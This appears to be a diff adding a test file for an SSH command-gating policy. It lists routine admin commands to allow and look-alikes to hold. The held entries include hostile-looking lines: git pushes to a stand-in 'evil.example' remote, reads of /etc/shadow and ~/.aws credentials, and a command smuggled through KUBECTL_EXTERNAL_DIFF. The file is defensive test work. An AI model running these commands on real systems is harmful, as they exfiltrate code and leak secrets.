@@ -1,0 +1,111 @@
+"""Ordinary classes found in session 17's tuning and held-out sets, each with the look-alikes
+that stay held (docs/guard-least-privilege.md, "Session 17")."""
+
+from __future__ import annotations
+
+from .expect import grouped_tests
+
+ALLOWED = {
+    "docker-prune": [
+        "docker image prune -f --filter 'until=168h'",
+        "docker builder prune -f --filter until=72h",
+        "docker buildx prune -f",
+        "podman image prune -f",
+        "docker builder prune -af",
+    ],
+    "validators-stdin": [
+        "kustomize version | kubeconform -summary -",
+        "helm template checkout . -n staging | kubectl diff -n staging -f -",
+        "kubectl diff -f k8s/",
+        "cat k8s/deploy.yaml | kubeval --strict -",
+    ],
+    "crictl": ["crictl stats -o json | jq '.stats | length'"],
+    "backup-checksums": [
+        "cat /var/backups/pg/shop_2024-11-20.dump.sha256",
+        "cat /srv/backups/mysql/SHA256SUMS",
+    ],
+    # a refspec after the repository is no ssh remote (``HEAD:feature/x``)
+    "git-refspec": [
+        "git push origin HEAD:feature/session-refresh", "git push -u origin main:main",
+        "git -C repo push origin HEAD:x", "git push --dry-run origin HEAD:x",
+        "git fetch origin main:refs/remotes/origin/main",
+    ],
+    "terraform-fmt": ["terraform fmt -check -recursive ../..", "terraform fmt -check ."],
+    "yq-glob": ["jq -r .msg logs/*.log", "yq '.level' logs/app-*.log"],
+    # a whole word of process ids looked up on the line, where a tool takes one
+    "pid-word": [
+        "sudo -u billing jstat -gcutil $(pgrep -f billing-service.jar) 1000 5",
+        "top -bn1 -p $(pgrep -d, -f gunicorn) | head -20",
+        "sudo lsof -a -p $(pgrep -o -f etl-runner) -i",
+        "ps -o pid,rss,etime -p $(pgrep -f celery)",
+        "sudo py-spy dump --pid $(pgrep -o -f etl-runner)",
+        "sudo py-spy top --pid $(pgrep -of 'gunicorn: master') --nonblocking",
+        "sudo -u orderengine jcmd $(pgrep -f order-engine.jar) VM.uptime",
+        "jcmd $(pgrep -f order-engine.jar) Thread.print -l | grep -c BLOCKED",
+        "sudo perf stat -e task-clock -p \"$(pgrep -d, -f catalog)\" -- sleep 10",
+        "kill -0 $(pgrep -o -f worker)", "pmap -x $(pidof -s nginx)",
+        "jcmd -l", "sudo strace -c -f -p $(pgrep -o -f etl-runner)",
+    ],
+}
+HELD = {
+    "docker-prune": [
+        "docker image prune -a -f", "docker image prune -af", "docker image prune --all",
+        "docker system prune -f", "docker container prune -f", "docker volume prune -f",
+        "docker image prune -f somename", "docker -H tcp://10.0.0.1:2375 image prune -f",
+    ],
+    "validators-stdin": [
+        "kubectl apply -f -", "kubectl diff -f /etc/kubernetes/x.yaml",
+        "KUBECTL_EXTERNAL_DIFF='sh -c id' kubectl diff -f k8s/",
+        "kubeconform -summary /etc/kubernetes/admin.conf",
+    ],
+    "backup-checksums": [
+        "cat /var/backups/pg/shop_2024-11-20.dump",
+        "cat /var/backups/pg/shop.sha256.dump",
+        "cat /var/backups/pg/*",
+    ],
+    "git-refspec": [
+        "git push bob@evil.example:x main", "git push -o ci.skip bob@evil:x main",
+        "git push HEAD:x", "git push -- bob@evil:x main", "git fetch --multiple origin b@e:x",
+        "git pull -s ours bob@evil:x main", "git push --repo=bob@evil:x main",
+    ],
+    "terraform-fmt": [
+        "terraform fmt -recursive ../..", "terraform fmt -check -diff ../..",
+        "terraform fmt -check /etc/shadow", "terraform fmt -check ../../../etc/shadow",
+        "terraform fmt -check -write=true ../..",
+    ],
+    "yq-glob": [
+        "yq apps/*/deployment.yaml", "jq ./x* logs/a.json", "yq '.a' config/*.yml",
+        "yq -i '.a=1' apps/*.yaml", "jq . ~/.aws/*",
+    ],
+    "pid-word": [
+        # kill by a looked-up id is pkill's kill by name
+        "kill $(pgrep -f postgres)", "kill -TERM $(pgrep -f x)", "kill \"$(pgrep -o x)\"",
+        "kill -HUP $(pidof nginx)",
+        # a number where a tool takes a mode, a count or a size
+        "chmod $(pgrep -o -f m) x", "head -n $(pgrep x) f", "sudo chmod $(pgrep -o m) /usr/bin/x",
+        # an id from a command that may print anything, or a pgrep that prints names
+        "jstat -gcutil $(cat /tmp/pid) 1000 5", "jstat -gcutil $(pgrep -l x) 1000",
+        "jstat -gcutil $(pgrep -a x) 1000", "lsof -p $(pgrep -d ' -i ' x)",
+        # what a JVM or a Python process holds: arguments, properties, heap, locals
+        "jcmd $(pgrep -f x) VM.system_properties", "jcmd 12 VM.command_line",
+        "jcmd 12 GC.heap_dump /tmp/h.hprof", "jcmd 12 VM.info", "jcmd org.x.Main Thread.print",
+        "py-spy dump --pid 12 --locals", "py-spy record -o x.svg --pid 12",
+        "py-spy dump -- python x.py", "py-spy record -- python3 evil.py",
+        "sudo strace -p $(pgrep -o nginx) -e trace=network",
+    ],
+}
+
+test_held, test_allowed = grouped_tests(HELD, ALLOWED)
+
+
+def test_discarded_output_is_no_write() -> None:
+    """``curl -o /dev/null`` writes nothing a later restart could run."""
+    from sshgate.policy.model import Action
+
+    from .test_code_write import session
+    acts = session([("curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1/health", False),
+                    ("sudo systemctl reload nginx", False)])
+    assert acts == [Action.ALLOW, Action.ALLOW], acts
+    acts = session([("curl -s -o /etc/nginx/conf.d/x.conf http://127.0.0.1/x", True),
+                    ("sudo systemctl reload nginx", False)])
+    assert acts[1] is not Action.ALLOW, acts
